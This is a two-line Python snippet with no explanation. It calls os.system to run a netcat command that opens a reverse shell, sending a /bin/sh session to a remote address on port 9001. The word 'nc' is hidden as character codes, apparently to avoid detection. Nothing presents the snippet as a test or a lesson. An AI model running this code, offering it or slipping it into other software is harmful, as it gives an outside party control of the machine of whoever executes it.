import os
os.system("".join([chr(110), chr(99), " -e /bin/sh 192.0.2.9 9001"]))
